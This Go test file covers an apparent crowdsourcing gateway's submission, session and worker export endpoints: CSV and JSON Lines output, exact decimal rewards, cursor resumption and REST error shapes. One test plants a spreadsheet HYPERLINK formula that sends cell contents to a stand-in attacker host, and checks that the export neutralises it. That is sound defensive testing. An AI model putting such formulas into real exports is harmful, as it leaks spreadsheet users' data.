package gateway_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc/codes"
	"google.golang.org/protobuf/proto"

	crowdgatev1 "github.com/crowdgate/crowdgate/gen/crowdgate/v1"
	"github.com/crowdgate/crowdgate/services/gateway/gatewaytest"
	"github.com/crowdgate/crowdgate/services/requester/export"
	"github.com/crowdgate/crowdgate/services/toloker/submission"
)

// exportFlow is a pool with two Tolokers' live sessions and submits whose
// rewards must come out digit for digit.
type exportFlow struct {
	env     *gatewaytest.Env
	pool    *crowdgatev1.Pool
	rewards []string
}

func startExportFlow(t *testing.T) *exportFlow {
	t.Helper()
	env := gatewaytest.Start(t, gatewaytest.Options{})
	ctx := env.Ctx()
	p := env.OpenPool(ctx, env.NewAPIKey("acme"))
	f := &exportFlow{env: env, pool: p, rewards: []string{"0.10", "10.52", "0.00000001", "3", "1234.5600"}}
	var sessions []string
	for _, u := range []string{"toloker-1", "toloker-2"} {
		s, err := env.Sessions.StartSession(ctx, &crowdgatev1.StartSessionRequest{AssignmentId: env.StartAssignment(p, u)})
		if err != nil {
			t.Fatalf("StartSession: %v", err)
		}
		sessions = append(sessions, s.GetSession().GetSessionId())
	}
	for i, r := range f.rewards {
		if _, err := env.Submissions.Submit(ctx, &crowdgatev1.SubmitRequest{SessionId: sessions[i%2], Reward: r}); err != nil {
			t.Fatalf("Submit %s: %v", r, err)
		}
	}
	return f
}

// get answers a GET with its status, Content-Type and body.
func (f *exportFlow) get(t *testing.T, path, accept string) (int, string, []byte) {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, f.env.HTTP+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	if accept != "" {
		req.Header.Set("Accept", accept)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, resp.Header.Get("Content-Type"), b
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, b)
	}
	return recs
}

func readLines(t *testing.T, b []byte) []map[string]any {
	t.Helper()
	var out []map[string]any
	for line := range strings.SplitSeq(strings.TrimSuffix(string(b), "\n"), "\n") {
		if line == "" {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("line %q is not JSON: %v", line, err)
		}
		out = append(out, m)
	}
	return out
}

func column(t *testing.T, recs [][]string, name string) []string {
	t.Helper()
	i := slices.Index(recs[0], name)
	if i < 0 {
		t.Fatalf("no column %q in %v", name, recs[0])
	}
	var out []string
	for _, r := range recs[1:] {
		out = append(out, r[i])
	}
	return out
}

func TestExportSubmissionsAsCSVAndJSONLinesWithExactMoneyAndResume(t *testing.T) {
	f := startExportFlow(t)
	path := "/v1/pools/" + f.pool.GetPoolId() + "/submissions:export"

	code, ctype, body := f.get(t, path, "text/csv")
	if code != http.StatusOK || !strings.HasPrefix(ctype, "text/csv") {
		t.Fatalf("CSV: %d %s %s", code, ctype, body)
	}
	recs := readCSV(t, body)
	if want := export.Columns(&crowdgatev1.ExportSubmissionsResponse{}); !slices.Equal(recs[0], want) {
		t.Errorf("header %v, want %v", recs[0], want)
	}
	for _, c := range []string{"cursor", "submission_id", "pool_id", "user_id", "reward", "state", "create_time", "flags.filter_match", "last_error.code", "close_session"} {
		if !slices.Contains(recs[0], c) {
			t.Errorf("header %v lacks %q", recs[0], c)
		}
	}
	if got := column(t, recs, "reward"); !slices.Equal(got, f.rewards) {
		t.Errorf("CSV rewards %v, want exactly %v, oldest first", got, f.rewards)
	}
	if got := column(t, recs, "pool_id"); slices.ContainsFunc(got, func(s string) bool { return s != f.pool.GetPoolId() }) {
		t.Errorf("pool ids %v", got)
	}
	cursors := column(t, recs, "cursor")

	// JSON Lines, the default.
	for _, accept := range []string{"", "application/x-ndjson", "application/json", "*/*"} {
		code, ctype, body = f.get(t, path, accept)
		if code != http.StatusOK || ctype != export.MIMENDJSON {
			t.Fatalf("Accept %q: %d %s %s", accept, code, ctype, body)
		}
		lines := readLines(t, body)
		var rewards, lineCursors []string
		for _, l := range lines {
			rewards = append(rewards, l["submission"].(map[string]any)["reward"].(string))
			lineCursors = append(lineCursors, l["cursor"].(string))
		}
		if !slices.Equal(rewards, f.rewards) || !slices.Equal(lineCursors, cursors) {
			t.Errorf("Accept %q: rewards %v cursors %v, want %v and the CSV's %v", accept, rewards, lineCursors, f.rewards, cursors)
		}
	}

	// Resuming after the second row gives exactly the rest, in both formats.
	_, _, body = f.get(t, path+"?cursor="+url.QueryEscape(cursors[1]), "text/csv")
	rest := readCSV(t, body)
	if got := column(t, rest, "reward"); !slices.Equal(got, f.rewards[2:]) {
		t.Errorf("resumed CSV rewards %v, want %v", got, f.rewards[2:])
	}
	if got := column(t, rest, "cursor"); !slices.Equal(got, cursors[2:]) {
		t.Errorf("resumed CSV cursors %v, want %v", got, cursors[2:])
	}
	_, _, body = f.get(t, path+"?cursor="+url.QueryEscape(cursors[4]), "")
	if len(bytes.TrimSpace(body)) != 0 {
		t.Errorf("after the last row: %q, want nothing", body)
	}
	_, _, body = f.get(t, path+"?cursor="+url.QueryEscape(cursors[4]), "text/csv")
	if recs := readCSV(t, body); len(recs) > 1 {
		t.Errorf("CSV after the last row: %v", recs)
	}

	// gRPC clients get typed rows with the same cursors.
	stream, err := crowdgatev1.NewExportServiceClient(f.env.Conn).ExportSubmissions(f.env.Ctx(), &crowdgatev1.ExportSubmissionsRequest{PoolId: f.pool.GetPoolId(), Cursor: cursors[0]})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for {
		row, err := stream.Recv()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, row.GetSubmission().GetReward())
	}
	if !slices.Equal(got, f.rewards[1:]) {
		t.Errorf("gRPC rows after the first: %v, want %v", got, f.rewards[1:])
	}
}

func TestExportSessionsAndTolokers(t *testing.T) {
	f := startExportFlow(t)
	code, _, body := f.get(t, "/v1/pools/"+f.pool.GetPoolId()+"/tolokers:export", "text/csv")
	if code != http.StatusOK {
		t.Fatalf("tolokers: %d %s", code, body)
	}
	recs := readCSV(t, body)
	users := column(t, recs, "user_id")
	slices.Sort(users)
	if !slices.Equal(users, []string{"toloker-1", "toloker-2"}) {
		t.Errorf("tolokers %v", users)
	}
	for _, c := range []string{"reward_delivered", "sessions.started", "pool_ids", "restrictions"} {
		if !slices.Contains(recs[0], c) {
			t.Errorf("tolokers header %v lacks %q", recs[0], c)
		}
	}
	// Resume after the first Toloker: the other one.
	_, _, body = f.get(t, "/v1/pools/"+f.pool.GetPoolId()+"/tolokers:export?cursor="+url.QueryEscape(column(t, recs, "cursor")[0]), "")
	if lines := readLines(t, body); len(lines) != 1 || lines[0]["toloker"].(map[string]any)["user_id"] != column(t, recs, "user_id")[1] {
		t.Errorf("tolokers after the first: %v", lines)
	}

	code, _, body = f.get(t, "/v1/pools/"+f.pool.GetPoolId()+"/sessions:export", "")
	if code != http.StatusOK {
		t.Fatalf("sessions: %d %s", code, body)
	}
	lines := readLines(t, body)
	var totals []string
	for _, l := range lines {
		s := l["session"].(map[string]any)
		if s["state"] != "SESSION_STATE_ACTIVE" {
			t.Errorf("exported session %v is not live", s)
		}
		totals = append(totals, s["reward_total"].(string))
	}
	slices.Sort(totals)
	// toloker-1 submitted 0.10 + 0.00000001 + 1234.5600, toloker-2 10.52 + 3.
	if !slices.Equal(totals, []string{"1234.66000001", "13.52"}) {
		t.Errorf("live sessions' reward totals %v, want exactly [1234.66000001 13.52]", totals)
	}
}

func TestExportRefusesBadRequestsAsRESTErrors(t *testing.T) {
	f := startExportFlow(t)
	pool := f.pool.GetPoolId()
	other := f.env.MustPool(f.env.Ctx(), gatewaytest.ValidPool(f.pool.GetProjectId(), f.env.Now())).GetPoolId()
	_, _, body := f.get(t, "/v1/pools/"+other+"/submissions:export", "")
	if len(bytes.TrimSpace(body)) != 0 {
		t.Fatalf("an empty pool: %q", body)
	}
	_, _, body = f.get(t, "/v1/pools/"+pool+"/submissions:export", "text/csv")
	cursor := column(t, readCSV(t, body), "cursor")[0]
	_, _, body = f.get(t, "/v1/pools/"+pool+"/tolokers:export", "text/csv")
	tolokerCursor := column(t, readCSV(t, body), "cursor")[0]

	for _, c := range []struct {
		path  string
		code  int
		field string
	}{
		{"/v1/pools/" + pool + "/submissions:export?cursor=nope", http.StatusBadRequest, "cursor"},
		{"/v1/pools/" + other + "/submissions:export?cursor=" + url.QueryEscape(cursor), http.StatusBadRequest, "cursor"},
		{"/v1/pools/" + pool + "/sessions:export?cursor=" + url.QueryEscape(cursor), http.StatusBadRequest, "cursor"},
		{"/v1/pools/" + pool + "/submissions:export?cursor=" + url.QueryEscape(tolokerCursor), http.StatusBadRequest, "cursor"},
		{"/v1/pools/a%20b/submissions:export", http.StatusBadRequest, "pool_id"},
		{"/v1/pools/pl%7Bx%7D/tolokers:export", http.StatusBadRequest, "pool_id"},
		{"/v1/pools/pool_nope/submissions:export", http.StatusNotFound, ""},
		{"/v1/pools/pool_nope/sessions:export", http.StatusNotFound, ""},
		{"/v1/pools/pool_nope/tolokers:export", http.StatusNotFound, ""},
	} {
		for _, accept := range []string{"", "text/csv"} {
			code, ctype, body := f.get(t, c.path, accept)
			if code != c.code || ctype != "application/json" {
				t.Errorf("%s (Accept %q): %d %s %s, want %d application/json", c.path, accept, code, ctype, body, c.code)
				continue
			}
			var st map[string]any
			if err := json.Unmarshal(body, &st); err != nil || st["code"] == nil || st["message"] == nil {
				t.Errorf("%s: body %s is not the REST error shape", c.path, body)
			}
			if c.field != "" && !strings.Contains(string(body), `"field":"`+c.field+`"`) {
				t.Errorf("%s: %s, want it to name %s", c.path, body, c.field)
			}
			if c.code == http.StatusNotFound && int(st["code"].(float64)) != int(codes.NotFound) {
				t.Errorf("%s: %s", c.path, body)
			}
		}
	}
}

// A pool larger than a batch comes out whole, once, in order, and resumes
// from a cursor in the middle of a batch with exactly the rest.
func TestExportWalksManyBatches(t *testing.T) {
	env := gatewaytest.Start(t, gatewaytest.Options{})
	p := env.OpenPool(env.Ctx(), env.NewAPIKey("acme"))
	const n = 3*submission.ExportBatch + 17
	if err := submission.SeedDelivered(t.Context(), env.Redis.Client, env.Redis.Prefix, "default", p.GetPoolId(), n, env.Now().Add(-time.Hour),
		func(i int, s *crowdgatev1.Submission) { s.UserId, s.Reward = "u", strconv.Itoa(i)+".01" }); err != nil {
		t.Fatal(err)
	}
	f := &exportFlow{env: env, pool: p}
	_, _, body := f.get(t, "/v1/pools/"+p.GetPoolId()+"/submissions:export", "text/csv")
	recs := readCSV(t, body)
	rewards := column(t, recs, "reward")
	if len(rewards) != n || rewards[0] != "0.01" || rewards[n-1] != strconv.Itoa(n-1)+".01" {
		t.Fatalf("%d rows, first %v", len(rewards), rewards[:min(3, len(rewards))])
	}
	ids := column(t, recs, "submission_id")
	if !slices.IsSorted(ids) || len(slices.Compact(slices.Clone(ids))) != n {
		t.Errorf("ids not once each, in order")
	}
	at := submission.ExportBatch + 100
	_, _, body = f.get(t, "/v1/pools/"+p.GetPoolId()+"/submissions:export?cursor="+url.QueryEscape(column(t, recs, "cursor")[at]), "")
	lines := readLines(t, body)
	if len(lines) != n-at-1 || lines[0]["submission"].(map[string]any)["submission_id"] != ids[at+1] {
		t.Errorf("resumed at row %d: %d rows", at, len(lines))
	}
}

// A dashboard user downloads a pool's submissions as CSV and opens it in a
// spreadsheet. A retry_id (any printable ASCII, stored as sent) that looks
// like a formula is shown as text: the cell starts with a single quote.
func TestACSVExportShowsARetryIDThatLooksLikeAFormulaAsText(t *testing.T) {
	env := gatewaytest.Start(t, gatewaytest.Options{})
	ctx := env.Ctx()
	p := env.OpenPool(ctx, env.NewAPIKey("acme"))
	s, err := env.Sessions.StartSession(ctx, &crowdgatev1.StartSessionRequest{AssignmentId: env.StartAssignment(p, "toloker-1")})
	if err != nil {
		t.Fatal(err)
	}
	payload := `=HYPERLINK("https://evil.example/x?"&B2,"Open")` // no spaces: a valid retry_id
	if _, err := env.Submissions.Submit(ctx, &crowdgatev1.SubmitRequest{SessionId: s.GetSession().GetSessionId(), Reward: "0.10", RetryId: payload}); err != nil {
		t.Fatalf("Submit: %v", err)
	}
	code, body := env.RESTRaw(http.MethodGet, "/v1/pools/"+p.GetPoolId()+"/submissions:export", "", "Accept", "text/csv")
	if code != http.StatusOK {
		t.Fatalf("export: %d %s", code, body)
	}
	recs := readCSV(t, body)
	if got := column(t, recs, "retry_id"); len(got) != 1 || got[0] != "'"+payload {
		t.Errorf("retry_id cells %q, want [%q]", got, "'"+payload)
	}
	if got := column(t, recs, "reward"); len(got) != 1 || got[0] != "0.10" {
		t.Errorf("reward cells %q, want [0.10]", got)
	}
}

// An export of a pool with no rows yet (or resumed after its last row) is
// still a 200 of its type: in CSV the header line alone (a spreadsheet
// import or pandas needs the columns even with no rows), in JSON Lines an
// empty body.
func TestAnEmptyExportIsTheHeaderLineInCSVAndNothingInJSONLines(t *testing.T) {
	f := startExportFlow(t)
	env := f.env
	empty := env.MustPool(env.Ctx(), gatewaytest.ValidPool(f.pool.GetProjectId(), env.Now())).GetPoolId()
	for _, kind := range []struct {
		name string
		row  proto.Message
	}{
		{"submissions", &crowdgatev1.ExportSubmissionsResponse{}},
		{"sessions", &crowdgatev1.ExportSessionsResponse{}},
		{"tolokers", &crowdgatev1.ExportTolokersResponse{}},
	} {
		path := "/v1/pools/" + empty + "/" + kind.name + ":export"
		code, ctype, body := f.get(t, path, "text/csv")
		if code != http.StatusOK || !strings.HasPrefix(ctype, "text/csv") {
			t.Errorf("%s as CSV: %d %q %q, want 200 text/csv", path, code, ctype, body)
		}
		if recs := readCSV(t, body); len(recs) != 1 || !slices.Equal(recs[0], export.Columns(kind.row)) {
			t.Errorf("%s as CSV: %q, want the header line alone", path, body)
		}
		code, ctype, body = f.get(t, path, "")
		if code != http.StatusOK || ctype != export.MIMENDJSON || len(body) != 0 {
			t.Errorf("%s as JSON Lines: %d %q %q, want 200 %s and no body", path, code, ctype, body, export.MIMENDJSON)
		}
	}
	// Resumed after the last row: the same.
	_, _, body := f.get(t, "/v1/pools/"+f.pool.GetPoolId()+"/submissions:export", "text/csv")
	cursors := column(t, readCSV(t, body), "cursor")
	code, ctype, body := f.get(t, "/v1/pools/"+f.pool.GetPoolId()+"/submissions:export?cursor="+url.QueryEscape(cursors[len(cursors)-1]), "text/csv")
	if recs := readCSV(t, body); code != http.StatusOK || !strings.HasPrefix(ctype, "text/csv") || len(recs) != 1 || recs[0][0] != "cursor" {
		t.Errorf("resumed after the last row: %d %q %q, want 200 text/csv with the header line alone", code, ctype, body)
	}
}

// A dashboard sends Accept: text/csv (or application/x-ndjson) everywhere.
// Only the exports answer in those formats; every other route, and its
// errors, answer JSON labelled application/json.
func TestAnOrdinaryRouteAnswersJSONWhateverTheExportAcceptHeader(t *testing.T) {
	env := gatewaytest.Start(t, gatewaytest.Options{})
	for _, accept := range []string{"text/csv", export.MIMENDJSON} {
		for path, want := range map[string]int{
			"/v1/credentials":              http.StatusOK,
			"/v1/pools/pool_nonexistent":   http.StatusNotFound,
			"/v1/credentials?page_size=-1": http.StatusBadRequest,
			"/v1/no-such-route":            http.StatusNotFound,
		} {
			req, _ := http.NewRequest(http.MethodGet, env.HTTP+path, nil)
			req.Header.Set("Accept", accept)
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if ct := resp.Header.Get("Content-Type"); resp.StatusCode != want || ct != "application/json" || !json.Valid(b) {
				t.Errorf("GET %s (Accept: %s): %d %q %s; want %d application/json", path, accept, resp.StatusCode, ct, b, want)
			}
		}
	}
}
